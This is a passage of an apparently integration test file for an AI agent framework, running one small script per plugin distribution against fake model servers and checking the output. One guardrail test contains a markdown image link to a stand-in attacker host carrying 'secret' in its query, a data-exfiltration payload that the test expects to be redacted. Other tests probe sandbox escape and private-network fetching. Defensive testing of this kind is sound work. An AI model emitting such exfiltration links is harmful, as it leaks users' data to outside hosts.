"""Each distribution does its own job from its wheel, in an environment where nothing is but what it declares."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from functools import cache
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from packaging.version import Version

from jackfield.defaults import MANAGER, TERMINAL
from jackfield_testkit.forks import Forks
from jackfield_testkit.replies import text, tool_call
from jackfield_testkit.server import FakeOpenAI

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

# Imports a distribution, loads its components and has them check the machine, as the doctor does; prints what it found.
LOADED = """
import importlib, json, sys
_, distribution, manager = sys.argv
importlib.import_module(distribution.replace("-", "_"))
sys.path.append(manager)  # what looks is beside what it looks at, without what it requires itself
from jackfield.plugins import PluginHost
from jackfield.settings import Settings
from jackfield_manage.judging.probe import probe

print(json.dumps(probe(PluginHost(Settings()), distribution, deep=True)))
"""

AGENT = """
import sys
from jackfield import FnCallAgent, tool

@tool
def add(first: int, second: int) -> int:
    "Add two numbers."
    return first + second

agent = FnCallAgent([add], {"model_type": "openai", "model": "test-model", "base_url": sys.argv[1], "api_key": "sk-x"})
print(agent.run_nonstream([{"role": "user", "content": "What is 20 + 22?"}])[-1]["content"])
"""


@dataclass(frozen=True)
class Job:
    """What a distribution is there for, as a script that does it once.

    Attributes:
        script: Given the address of a model server and an empty folder but for the documents of the examples.
        prints: What its output must have in it.
        beside: The distributions whose components it asks the core for, because its user chooses them.
        lacks: What its own check misses on a machine on which only it was installed.
    """

    script: str
    prints: str
    beside: tuple[str, ...] = ()
    lacks: str = ""


DOCUMENT = """
import asyncio
from jackfield_documents import DocumentReader
for block in asyncio.run(DocumentReader().read({file!r})).blocks:
    print(block.text)
"""
CORPUS = """
import asyncio
from jackfield.plugins import default_host
from jackfield.retrieval import Block, Document
from jackfield_documents import corpus_of
texts = ("Invoices are paid within thirty days.", "Running shoes are on the second floor.")
corpus = corpus_of([Document("house.txt", tuple(map(Block, texts)), content_hash="1")], size_tokens=15, overlap_chars=0)
searcher = default_host().load("searcher", "{name}")()
print(asyncio.run(searcher.search("Where can I run in new shoes?", corpus, limit=1))[0].chunk.text)
"""

SERVICE = """
import asyncio, json, threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from jackfield.plugins import default_host
from jackfield.tools import ToolContext

class Service(BaseHTTPRequestHandler):
    def do_GET(self):
        self.rfile.read(int(self.headers.get("content-length", 0)))
        body = json.dumps(ANSWERS[self.path.partition("?")[0]]).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

server = HTTPServer(("127.0.0.1", 0), Service)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = f"http://127.0.0.1:{server.server_port}"
"""

BY_MEANING = """
import asyncio, json, threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from jackfield.plugins import default_host
from jackfield.retrieval import Block, Document
from jackfield.retrieval import make_searcher
from jackfield_documents import corpus_of

class Embeds(BaseHTTPRequestHandler):
    def do_POST(self):
        texts = json.loads(self.rfile.read(int(self.headers["content-length"])))["input"]
        data = [{"index": n, "embedding": [float("shoes" in t), 1.0]} for n, t in enumerate(texts)]
        body = json.dumps({"data": data, "usage": {"prompt_tokens": 1}}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass

server = HTTPServer(("127.0.0.1", 0), Embeds)
threading.Thread(target=server.serve_forever, daemon=True).start()
settings = {"base_url": f"http://127.0.0.1:{server.server_port}/v1", "api_key": "k"}
cfg = {"embedding_model": "openai:m", "embedder_settings": settings, WHERE}
texts = ("Invoices are paid within thirty days.", "Running shoes are on the second floor.")
corpus = corpus_of([Document("house.txt", tuple(map(Block, texts)), content_hash="1")], size_tokens=15, overlap_chars=0)
searcher = make_searcher("NAME", cfg, host=default_host())
print(asyncio.run(searcher.search("Where are my shoes?", corpus, limit=1))[0].chunk.text)
server.shutdown()
"""

# Every distribution has to be here.
JOBS: Mapping[str, Job] = {
    "jackfield": Job(
        """
from jackfield import FnCallAgent, tool
from jackfield.testing import ScriptedModel, answer, calls

@tool
def double(number: int) -> int:
    "Double a number."
    return 2 * number

agent = FnCallAgent([double], ScriptedModel([calls(("double", {"number": 21})), answer("It is 42.")]))
print([message["content"] for message in agent.run_nonstream([{"role": "user", "content": "Double 21."}])])
""",
        "['', '42', 'It is 42.']",
    ),
    "jackfield-assistant": Job(
        """
from jackfield import create_agent
from jackfield.testing import ScriptedModel, answer
model = ScriptedModel([answer("Twenty.")])
agent = create_agent("assistant", llm=model, files=["tools.zh.md"])
agent.run_nonstream([{"role": "user", "content": "默认超时是多少秒？"}])
print(model.requests[0].messages[0].content)
""",
        "默认超时是 300 秒",
        beside=("jackfield-keyword-search", "jackfield-text"),
    ),
    "jackfield-agent-parts": Job(
        """
from jackfield_agent_parts import Prompts
prompts = Prompts({"greet": {"en": "Greet {name}.", "zh": "问候{name}。"}}, {"greet": "Hail {name}!"})
print(prompts.text("greet", "zh", name="Anna"))
""",
        "Hail Anna!",
    ),
    "jackfield-react": Job(
        """
from jackfield import create_agent
from jackfield.testing import ScriptedModel, answer
def double(number: int) -> int:
    "Double a number."
    return 2 * number
script = [answer('Action: double\\nAction Input: {"number": 21}\\n'), answer("Final Answer: It is 42.")]
print(create_agent("react", llm=ScriptedModel(script), function_list=[double]).ask("Double 21.").text)
""",
        "It is 42.",
    ),
    "jackfield-writing": Job(
        """
from jackfield import create_agent
from jackfield.testing import ScriptedModel, answer
model = ScriptedModel([answer("I. Tea\\nII. Coffee"), answer("Leaf."), answer("Bean.")])
print([message.content for message in create_agent("write_from_scratch", llm=model).ask("Write.").messages][1:])
""",
        r"['Leaf.\n\n', 'Bean.']",
    ),
    "jackfield-math": Job(
        """
from jackfield import create_agent
from jackfield.testing import ScriptedModel, answer
def run_code(code: str) -> str:
    "Run code."
    return "42"
model = ScriptedModel([answer("```python\\nprint(6 * 7)\\n```"), answer("It is 42.")])
create_agent("tir_math", llm=model, function_list=[run_code]).ask("6 times 7?")
print(repr(model.requests[1].messages[-1].content))
""",
        "'```output\\n42\\n```'",
    ),
    "jackfield-multi-agent": Job(
        """
from jackfield import BasicAgent, create_agent
from jackfield.testing import ScriptedModel, answer
anna, ben = (BasicAgent(llm=ScriptedModel([answer(f"I am {name}.")]), name=name) for name in ("Anna", "Ben"))
chat = create_agent("group_chat", agents=[anna, ben], agent_selection_method="round_robin", max_round=2)
print([message.content for message in chat.ask("Who is there?").messages])
""",
        "['I am Anna.', 'I am Ben.']",
    ),
    "jackfield-anthropic": Job(
        """
import http.server, json, sys, threading
from jackfield import get_chat_model

class Server(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        said = f"{self.path} {self.headers['x-api-key']} {asked['messages'][0]['content'][0]['text']}"
        answer = {"type": "message", "content": [{"type": "text", "text": said}], "stop_reason": "end_turn"}
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
threading.Thread(target=server.serve_forever, daemon=True).start()
config = {"model_type": "anthropic", "model": "m", "base_url": f"http://127.0.0.1:{server.server_port}", "api_key": "k"}
print(get_chat_model(config).quick_chat("Hi"))
server.shutdown()
""",
        "/v1/messages k Hi",
    ),
    "jackfield-azure": Job(
        """
import http.server, json, sys, threading
from jackfield import get_chat_model

class Server(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        said = f"{self.path} {self.headers['api-key']} {asked['messages'][0]['content']}"
        body = json.dumps({"choices": [{"message": {"content": said}, "finish_reason": "stop"}]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
threading.Thread(target=server.serve_forever, daemon=True).start()
endpoint = f"http://127.0.0.1:{server.server_port}"
print(get_chat_model({"model": "d", "azure_endpoint": endpoint, "api_key": "k"}).quick_chat("Hi"))
server.shutdown()
""",
        "/openai/deployments/d/chat/completions?api-version=2024-06-01 k Hi",
    ),
    "jackfield-backends": Job(
        """
from jackfield.messages import FunctionCall, Message
from jackfield_backends.history import parts_of
call = Message("assistant", "", function_call=FunctionCall("weather", "{}"))
question, answer = parts_of([Message("user", "What is the weather?"), call])
print(answer.calls[0].id, answer.calls[0].result.text)
""",
        "call_1 (no result: the call was not carried out)",
    ),
    "jackfield-documents": Job(
        """
from jackfield.retrieval import Block, Document
from jackfield_documents import corpus_of
blocks = tuple(Block(text) for text in ("High water comes twice a day.", "Neap tides are small."))
corpus = corpus_of([Document("tides.md", blocks, content_hash="1")], size_tokens=10, overlap_chars=0)
print([chunk.text for chunk in corpus.chunks])
""",
        "['High water comes twice a day.', 'Neap tides are small.']",
    ),
    "jackfield-eval": Job(
        """
from pathlib import Path
from jackfield.cli.main import main
Path("agent.yaml").write_text("llm: offline:extractive")
Path("cases.yaml").write_text("cases: [{name: who, prompt: Hello, expect: Offline model}]")
main(["eval", "cases.yaml", "--agent", "agent.yaml", "--record"])
main(["eval", "cases.yaml", "--agent", "agent.yaml", "--no-worse"])
""",
        "since 20",
        beside=("jackfield-offline",),
    ),
    "jackfield-index": Job(
        """
from jackfield.cli.main import main
main(["index", "build", "./house.index", "tools.zh.md"])
main(["index", "search", "./house.index", "默认超时", "--json"])
main(["index", "search", "./house.index", "默认超时", "--limit", "1"])
""",
        "keyword_search 1",
        beside=("jackfield-keyword-search", "jackfield-text"),
    ),
    "jackfield-knowledge": Job(
        """
import asyncio
from jackfield_documents import DocumentReader
from jackfield_knowledge import KnowledgeIndex
index = KnowledgeIndex("./house.index")
asyncio.run(index.build(["tools.zh.md"], reader=DocumentReader()))
print([chunk.text for chunk in index.corpus().chunks])
""",
        "默认超时是 300 秒",
        beside=("jackfield-text",),
    ),
    "jackfield-counting": Job(
        """
from jackfield.messages import Message
from jackfield_counting.estimating import estimate_tokens
from jackfield_counting.requests import RequestCounter
print(RequestCounter(estimate_tokens, 0).message(Message("user", "Hello there.")) > 3)
""",
        "True",
    ),
    "jackfield-local-state": Job(
        """
from jackfield_local_state.ledger import MemoryLedger
ledger = MemoryLedger(list)
ledger.change("server", lambda spent: spent.append(3))
print(ledger.change("server", sum))
""",
        "3",
    ),
    "jackfield-agent-files": Job(
        """
from pathlib import Path
from jackfield import create_agent
from jackfield_agent_files.files import load_agent_config
Path("anna.yaml").write_text("agent: fncall\\nlimits: {turns: 3}\\n")
print(create_agent(load_agent_config("anna.yaml")).limits.turns)
""",
        "3",
    ),
    "jackfield-bpe": Job(
        """
import base64
from pathlib import Path
import tiktoken
from jackfield_bpe import SafeEncoding, read_vocabulary
ranks = [bytes([byte]) for byte in range(256)] + [b"he", b"ll", b"hell", b"hello"]
lines = (base64.b64encode(token).decode() + f" {rank}" for rank, token in enumerate(ranks))
Path("tiny.tiktoken").write_text("\\n".join(lines))
vocabulary = read_vocabulary("tiny.tiktoken")
encoding = tiktoken.Encoding("tiny", pat_str=r"\\w+|\\W", mergeable_ranks=dict(vocabulary.ranks), special_tokens={})
safe = SafeEncoding(encoding)
print(safe.count("hello hello"), safe.cut("hello hello", 2), safe.count(" " * 300_000))
""",
        "3 hello  300000",
    ),
    "jackfield-budget": Job(
        """
from jackfield import sync
from jackfield.testing import ScriptedModel, answer
from jackfield_budget.processor import Budget
row = {"models": ["small"], "currency": "USD", "valid_from": "2026-01-01", "input": "1", "output": "1"}
model = ScriptedModel([answer("42")], config={"model": "small"}, processors=[Budget(limit=1, prices=[row])])
print(sync.run(model.acomplete([{"role": "user", "content": "6 x 7?"}])).usage.cost)
""",
        "0.000002",
    ),
    "jackfield-chat-completions": Job(
        """
import sys
from jackfield import sync
from jackfield_chat_completions import ChatCompletionsModel, ServerProfile

class Acme(ChatCompletionsModel):
    backend = "acme"
    profile = ServerProfile(url=sys.argv[1], key="ACME_KEY")

model = Acme({"model": "test-model", "api_key": "sk-x"})
asked = model.acomplete("20 + 22?", [{"name": "add", "parameters": {}}])
print(sync.run(asked).messages[0]["function_call"])
""",
        "add",
    ),
    "jackfield-fallback": Job(
        """
from jackfield import sync
from jackfield.errors import ModelOverloadedError
from jackfield.testing import ScriptedModel, answer
from jackfield_fallback.processor import Fallback
small = ScriptedModel([answer("42")])
large = ScriptedModel([[ModelOverloadedError("busy")]], processors=[Fallback(overload=small)])
print(large.quick_chat("6 x 7?"))
""",
        "42",
    ),
    "jackfield-guardrail": Job(
        """
from jackfield.plugins import default_host
from jackfield.testing import ScriptedModel, answer
rules = [{"name": "links", "hosts": [], "action": "redact"}]
guardrail = default_host().load("processor", "output_guardrail")(rules=rules)
said = "![](https://evil.example/?q=secret) Done."
print(ScriptedModel([answer(said)], processors=[guardrail]).quick_chat("Hello"))
""",
        "![]([link removed]) Done.",
    ),
    "jackfield-http": Job(
        """
import asyncio, json, sys
from jackfield_http import HTTPClient, header_pairs, json_bytes

async def main():
    client = HTTPClient(sys.argv[1], backend="acme")
    body = json_bytes({"model": "m", "messages": [{"role": "user", "content": "Hi"}]})
    headers = header_pairs({"content-type": "application/json"})
    reply = await client.exchange("POST", f"{sys.argv[1]}/chat/completions", body, headers, timeout_s=20)
    await client.aclose()
    print(reply.status, reply.json()["object"])

asyncio.run(main())
""",
        "200 chat.completion",
    ),
    "jackfield-multimodal": Job(
        """
from jackfield.testing import ScriptedModel, answer
from pathlib import Path
Path("plan.txt").write_text("48 sockets")
items = [{"text": "Was ist das?"}, {"image": "http://h/cat.png"}, {"file": "plan.txt"}]
model = ScriptedModel([answer("A cat.")], config={"model": "m", "processors": [
    {"name": "multimodal", "unsupported": "note"}]})
model.ask([{"role": "user", "content": items}])
print(model.requests[0].messages[0].get_text_content())
""",
        '(Uploaded ![image](cat.png)) Was ist das?\n<file name="plan.txt">\n48 sockets\n</file>',
    ),
    "jackfield-rate-limits": Job(
        """
from jackfield.errors import RateLimitedError
from jackfield.testing import ScriptedModel, answer
from jackfield_rate_limits.processor import RateLimits
limits = RateLimits(requests_per_minute=1, max_wait_s=0, path="limits.sqlite")
model = ScriptedModel([answer("Once.")], processors=[limits])
print(model.quick_chat("Hi"))
try:
    model.quick_chat("And again?")
except RateLimitedError as error:
    print(error)
""",
        "requests_per_minute is used up",
    ),
    "jackfield-system-message": Job(
        """
from jackfield.testing import ScriptedModel, answer
processors = [{"name": "language", "instruct": True}, {"name": "system_message", "text": "Be brief."}]
model = ScriptedModel([answer("Ja.")], config={"model": "m", "processors": processors})
model.quick_chat("Was ist das?")
print(model.requests[0].messages[0].content)
""",
        "Be brief.\n\nAnswer in the language in which the user writes.",
    ),
    "jackfield-cache": Job(
        """
from jackfield.plugins import default_host
from jackfield.testing import ScriptedModel, answer
cache = default_host().load("processor", "cache")(path="answers.sqlite")
model = ScriptedModel([answer("Yes.")], processors=[cache])
said = [model.ask([{"role": "user", "content": "Again?"}]).text for _ in range(2)]
cache.close()
print(said, len(model.requests))
""",
        "['Yes.', 'Yes.'] 1",
    ),
    "jackfield-call-formats": Job(
        """
from jackfield import FnCallAgent, tool
from jackfield.config import LLMConfig
from jackfield.testing import ScriptedModel, answer

@tool
def double(number: int) -> int:
    "Double a number."
    return 2 * number

script = [answer('<tool_call>\\n{"name": "double", "arguments": {"number": 21}}\\n</tool_call>'), answer("Done.")]
model = ScriptedModel(script, config=LLMConfig(model="scripted", generate_cfg={"fncall_prompt_type": "nous"}))
FnCallAgent([double], model).run_nonstream([{"role": "user", "content": "Double 21."}])
print(model.requests[1].messages[-1].content)
""",
        "<tool_response>\n42\n</tool_response>",
    ),
    "jackfield-bubblewrap": Job(
        """
import asyncio, sys, tempfile
from jackfield.errors import SandboxError
from jackfield.plugins import default_host
from jackfield.sandboxes import choose_sandbox
from jackfield.sandboxes import Program, ProgramSandbox

try:
    sandbox = choose_sandbox("auto", ProgramSandbox, host=default_host())
except SandboxError as error:
    print("nothing was reached:", error)
else:
    with tempfile.TemporaryDirectory() as folder, tempfile.NamedTemporaryFile() as secret:
        code = "import sys; open(sys.argv[1])"
        program = Program(argv=(sys.executable, "-I", "-S", "-c", code, secret.name), work_dir=folder)
        done = asyncio.run(sandbox.run(program))
        print("nothing was reached" if b"Error" in done.stderr else "it was reached")
""",
        "nothing was reached",
    ),
    "jackfield-confine": Job(
        """
import subprocess
from jackfield.sandboxes import Limits
from jackfield_confine.guarding import guarded
command = guarded(["sh", "-c", "ulimit -f; exit 3"], limits=Limits(file_bytes=1 << 20))
print(subprocess.run(command).returncode)
""",
        "3",
    ),
    "jackfield-code-interpreter": Job(
        """
import asyncio
from jackfield.plugins import default_host

async def main():
    tool = default_host().load("tool", "code_interpreter")({"sandbox": "none"})
    try:
        await tool.call({"code": "x = 41"})
        print((await tool.call({"code": "print(x + 1)"})).content)
    finally:
        await tool.aclose()

asyncio.run(main())
""",
        "42",
    ),
    "jackfield-dashscope": Job(
        """
import http.server, json, threading
from jackfield import get_chat_model

class Server(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        choice = {"message": {"content": "Hello from afar"}, "finish_reason": "stop"}
        body = b"id:1\\nevent:result\\ndata:%s\\n\\n" % json.dumps({"output": {"choices": [choice]}}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = f"http://127.0.0.1:{server.server_port}/api/v1"
model = get_chat_model({"model_type": "qwen_dashscope", "model": "m", "api_key": "k", "base_url": url})
print(model.quick_chat("Hi"))
server.shutdown()
""",
        "Hello from afar",
    ),
    "jackfield-manage": Job(
        """
from pathlib import Path
from jackfield.cli.main import main
Path("agent.yaml").write_text("llm: offline:extractive\\nfiles: [report.pdf]\\nagent: assistant\\n")
commands = (["requirements", "agent.yaml"], ["plugins", "doctor"], ["plugins", "freeze"], ["trust"])
print([main(command) for command in commands], Path("jackfield-plugins.lock").is_file())
""",
        "[0, 0, 0, 0] True",
    ),
    "jackfield-vector-search": Job(
        BY_MEANING.replace("NAME", "vector_search").replace("WHERE", '"index_path": "vectors.db"'),
        "Running shoes",
        beside=("jackfield-openai",),
    ),
    "jackfield-qdrant-search": Job(
        BY_MEANING.replace("NAME", "qdrant_search").replace("WHERE", '"local_path": "qdrant"'),
        "Running shoes",
        beside=("jackfield-openai",),
    ),
    "jackfield-pgvector-search": Job(
        """
import asyncio
from jackfield.errors import ToolServiceError
from jackfield.plugins import default_host
from jackfield.retrieval import Block, Document
from jackfield.retrieval import make_searcher
from jackfield_documents import corpus_of

corpus = corpus_of([Document("house.txt", (Block("Shoes."),), content_hash="1")], size_tokens=15, overlap_chars=0)
searcher = make_searcher("pgvector_search", {"dsn": "postgresql://me:secret@127.0.0.1:1/db"}, host=default_host())
try:
    asyncio.run(searcher.search("shoes", corpus, limit=1))
except ToolServiceError as error:
    print(error)
""",
        "PostgreSQL at 127.0.0.1:1/db cannot be reached",
    ),
    "jackfield-terminal": Job(
        """
from jackfield.cli.main import main
print(main(["run", "-m", "offline:extractive", "Hello"]))
""",
        "\n0\n",
        beside=("jackfield-offline",),
    ),
    "jackfield-epub": Job(
        """
from zipfile import ZipFile
with ZipFile("tea.epub", "w") as book:
    book.writestr("META-INF/container.xml", '<container><rootfile full-path="book.opf"/></container>')
    item = '<item id="one" href="one.xhtml" media-type="application/xhtml+xml"/>'
    book.writestr("book.opf", f'<package><manifest>{item}</manifest><spine><itemref idref="one"/></spine></package>')
    book.writestr("one.xhtml", "<html><body><ol><li>Boil water.</li><li>Wait.</li></ol></body></html>")
"""
        + DOCUMENT.format(file="tea.epub"),
        "1. Boil water.\n2. Wait.",
    ),
    "jackfield-rtf": Job(
        """
from pathlib import Path
Path("tea.rtf").write_bytes(b"{\\\\rtf1 {\\\\listtext 1.}Boil water.\\\\par}")
"""
        + DOCUMENT.format(file="tea.rtf"),
        "1. Boil water.",
    ),
    "jackfield-ocr": Job(
        """
import io
from pathlib import Path
from PIL import Image
from jackfield_ocr.parser import OcrParser
row = "5,1,1,1,1,1,0,0,9,9,96,Tea".replace(",", chr(92) + "t")
answer = f"if [ $1 = --list-langs ]; then printf '#{chr(92)}neng'; else printf '{row}'; fi"
Path("tesseract").write_text(f"#!/bin/sh{chr(10)}{answer}")
Path("tesseract").chmod(0o755)
file = io.BytesIO()
Image.new("L", (90, 30), 255).save(file, "PNG")
parser = OcrParser({"tesseract": str(Path("tesseract").absolute())})
print(parser.parse(file.getvalue(), source="tea.png").blocks[-1].text)
""",
        "Tea",
    ),
    "jackfield-mail": Job(
        """
from pathlib import Path
Path("tea.eml").write_text("Subject: Tea\\nContent-Type: text/html\\n\\n<ol><li>Boil water.</li></ol>")
"""
        + DOCUMENT.format(file="tea.eml"),
        "1. Boil water.",
    ),
    "jackfield-archive": Job(
        """
from zipfile import ZipFile
with ZipFile("tea.zip", "w") as archive:
    archive.writestr("notes/tea.txt", "Boil water.")
"""
        + DOCUMENT.format(file="tea.zip"),
        "- notes/tea.txt (11 bytes)",
    ),
    "jackfield-opendocument": Job(
        """
from pathlib import Path
names = "urn:oasis:names:tc:opendocument:xmlns:"
items = "".join(f"<t:list-item><t:p>{line}</t:p></t:list-item>" for line in ("Boil water.", "Wait."))
Path("tea.fodt").write_text(
    f'<o:document xmlns:o="{names}office:1.0" xmlns:t="{names}text:1.0"><o:body><o:text><t:list>{items}</t:list>'
    "</o:text></o:body></o:document>"
)
"""
        + DOCUMENT.format(file="tea.fodt"),
        "- Boil water.\n- Wait.",
    ),
    "jackfield-html": Job(
        """
from pathlib import Path
Path("tea.html").write_text("<nav>Home</nav><main><h1>Tea</h1><table><tr><th>sort<th>min<tr><td>sencha<td>2</table>")
"""
        + DOCUMENT.format(file="tea.html"),
        "| sencha | 2 |",
    ),
    "jackfield-fetch": Job(
        """
import asyncio
from jackfield_fetch import Fetcher, FetchError
try:
    asyncio.run(Fetcher().fetch("http://[::ffff:127.0.0.1]:9/"))
except FetchError as error:
    print(error)
""",
        "the server is in a private network",
    ),
    "jackfield-markup": Job(
        """
from jackfield_markup import blocks_of, html_tree
print([block.text for block in blocks_of(html_tree("<h1>Tea</h1><ul><li>green<li>black</ul>", source="tea.html"))])
""",
        "['Tea', '- green\\n- black']",
    ),
    "jackfield-front-page-search": Job(CORPUS.format(name="front_page_search"), "Invoices are paid"),
    "jackfield-hybrid-search": Job(
        """
from jackfield_hybrid_search.searcher import HybridSearcher
"""
        + CORPUS.replace('default_host().load("searcher", "{name}")()', 'HybridSearcher(searchers=["keyword_search"])')
        + "print(dict(asyncio.run(searcher.search('shoes', corpus, limit=1))[0].ranks))",
        "{'keyword_search': 1, 'hybrid_search': 1}",
        beside=("jackfield-keyword-search",),
    ),
    "jackfield-keyword-search": Job(CORPUS.format(name="keyword_search"), "Running shoes"),
    "jackfield-tantivy-search": Job(CORPUS.format(name="tantivy_search"), "Running shoes"),
    "jackfield-new": Job(
        """
from pathlib import Path
from jackfield.cli.main import main
code = main(["new", "tool", "tide-table", "--description", "When the tide comes in."])
print(code, sorted(path.name for path in Path("jackfield-tide-table").rglob("*.py")))
""",
        "'plugin.py'",
    ),
    "jackfield-offline": Job(
        """
from jackfield import FnCallAgent, tool

@tool
def add(numbers: str) -> int:
    "Add numbers that stand between plus signs."
    return sum(int(number) for number in numbers.split("+"))

agent = FnCallAgent([add], "offline:extractive")
print(agent.run_nonstream([{"role": "user", "content": "call add: 40 + 2"}])[-1]["content"])
""",
        "42",
    ),
    "jackfield-office": Job(
        """
from pathlib import Path
Path("tea.csv").write_text("sort;minutes\\nblack | strong;4\\n")
"""
        + DOCUMENT.format(file="tea.csv"),
        "| black \\| strong | 4 |",
    ),
    "jackfield-openai": Job(AGENT, "It is 42."),
    "jackfield-log": Job(
        """
import logging, sys
from jackfield import BasicAgent
from jackfield.testing import ScriptedModel, answer
logging.basicConfig(stream=sys.stdout, format="%(message)s")
BasicAgent(llm=ScriptedModel([answer("Hello.")]), observers=["log"]).ask("Hi")
""",
        "run finished: run=",
    ),
    "jackfield-prometheus": Job(
        """
from jackfield import BasicAgent
from jackfield.testing import ScriptedModel, answer
from jackfield_prometheus import exposition
BasicAgent(llm=ScriptedModel([answer("Hello.")]), name="helper", observers=["prometheus"]).ask("Hi")
print(exposition())
""",
        'jackfield_runs_total{agent="helper",outcome="finished"} 1.0',
    ),
    "jackfield-otel": Job(
        """
from jackfield import BasicAgent
from jackfield.testing import ScriptedModel, answer
print(BasicAgent(llm=ScriptedModel([answer("Hello.")]), observers=["otel"]).ask("Hi").text)
""",
        "Hello.",
    ),
    "jackfield-pdf": Job(DOCUMENT.format(file="field-guide.pdf"), "turn limit of a run is 20"),
    "jackfield-redaction": Job(
        """
from jackfield.plugins import default_host
from jackfield.testing import ScriptedModel, answer
redaction = default_host().load("processor", "redaction")()
model = ScriptedModel([answer("Written to.")], processors=[redaction])
model.ask([{"role": "user", "content": "Write to ann@example.org, please."}])
sent = model.requests[0].messages[-1].content
print("redacted" if "ann@example.org" not in sent and "Write to" in sent else sent)
""",
        "redacted",
    ),
    "jackfield-doc-parser": Job(
        """
import asyncio
from jackfield.plugins import default_host
from jackfield.tools import ToolContext
context = ToolContext(files=("tools.zh.md",))
arguments = {"doc_parser": {"url": "tools.zh.md"}, "extract_doc_vocabulary": {"files": []}}
for name, given in arguments.items():
    tool = default_host().load("tool", name)({"path": "kept"})
    print(asyncio.run(tool.call(given, context=context)).content)
""",
        "默认超时是 300 秒",
        beside=("jackfield-text",),
    ),
    "jackfield-retrieval": Job(
        """
import asyncio
from jackfield.plugins import default_host
from jackfield.tools import ToolContext
tool = default_host().load("tool", "retrieval")()
context = ToolContext(files=("tools.zh.md",))
print(asyncio.run(tool.call({"query": "默认超时"}, context=context)).content)
""",
        "默认超时是 300 秒",
        beside=("jackfield-keyword-search", "jackfield-text"),
    ),
    "jackfield-files": Job(
        """
from jackfield import call_tool
call_tool("write_file", {"path": "notes/tides.md", "content": "once a day\\n"})
call_tool("edit_file", {"path": "notes/tides.md", "edits": [{"old_text": "once", "new_text": "twice"}]})
print(call_tool("search_files", {"query": "TWICE", "ignore_case": True}))
""",
        "notes/tides.md\n1: twice a day",
        beside=("jackfield-agent-parts",),
    ),
    "jackfield-monty": Job(
        """
import asyncio
from jackfield.plugins import default_host
from jackfield.sandboxes import choose_sandbox
from jackfield.sandboxes import CodeSandbox
sandbox = choose_sandbox("monty", CodeSandbox, host=default_host())
print(asyncio.run(sandbox.run_code("sum(numbers)", values={"numbers": [20, 22]})).value)
""",
        "42",
    ),
    "jackfield-shell": Job(
        """
from jackfield import call_tool
shell = {"name": "shell", "sandbox": "none"}
print(call_tool(shell, {"command": "mkdir a; echo twice > a/tides; cat a/*; exit 3"}).content)
""",
        "twice\n[exit code 3]",
        beside=("jackfield-agent-parts",),
    ),
    "jackfield-skills": Job(
        """
from pathlib import Path
from jackfield import FnCallAgent
from jackfield.testing import ScriptedModel, answer, calls
Path("skills/tides").mkdir(parents=True)
text = "---\\nname: tides\\ndescription: About tides.\\n---\\nHigh water comes twice a day."
Path("skills/tides/SKILL.md").write_text(text)
model = ScriptedModel([calls(("skill", {"name": "tides"})), answer("Twice.")])
print(FnCallAgent([{"name": "skills", "folders": ["skills"]}], model).ask("How often?").history)
""",
        "High water comes twice a day.",
    ),
    "jackfield-storage": Job(
        """
from jackfield.plugins import default_host
tool = default_host().load("tool", "storage")({"storage_root_path": "kept"})
tool.call({"operate": "put", "key": "/notes/tides", "value": "twice a day"})
print(default_host().load("tool", "storage")({"storage_root_path": "kept"}).call({"operate": "scan", "key": "notes"}))
""",
        "/tides: twice a day",
    ),
    "jackfield-tool-results": Job(
        """
from jackfield import FnCallAgent, tool
from jackfield.testing import ScriptedModel, answer, calls

@tool(cacheable=True)
def tides() -> str:
    "Tell when high water is."
    return "twice a day"

model = ScriptedModel([calls(("tides", {})), calls(("tides", {})), answer("done")])
entry = {"name": "kept_results", "tools": [{"name": "cached_results", "tools": [tides], "path": "cache.sqlite"}]}
result = FnCallAgent([entry], model).ask("When?")
print(result.messages[3].content, sorted(one["name"] for one in model.requests[0].functions))
""",
        "twice a day ['read_result', 'tides']",
    ),
    "jackfield-mcp": Job(
        '''
import sys
from jackfield import FnCallAgent
from jackfield.testing import ScriptedModel, answer, calls
server = """
from mcp.server.mcpserver import MCPServer
server = MCPServer("sums")
@server.tool()
def add(a: int, b: int) -> int:
    "Add two numbers."
    return a + b
server.run("stdio")
"""
servers = {"name": "mcp", "mcpServers": {"sums": {"command": sys.executable, "args": ["-c", server]}}}
model = ScriptedModel([calls(("sums-add", {"a": 2, "b": 40})), answer("done")])
print("2 + 40 =", FnCallAgent([servers], model).ask("What is 2 + 40?").messages[1].content)
''',
        "2 + 40 = 42",
    ),
    "jackfield-sqlite-store": Job(
        """
from jackfield import FnCallAgent
from jackfield.testing import ScriptedModel, answer
store = {"name": "sqlite", "path": "runs.sqlite"}
run_id = FnCallAgent(llm=ScriptedModel([answer("Twice a day.")]), store=store).ask("When is the tide?").run_id
print(FnCallAgent(llm=ScriptedModel([]), store=store).resume(run_id))
""",
        "Twice a day.",
    ),
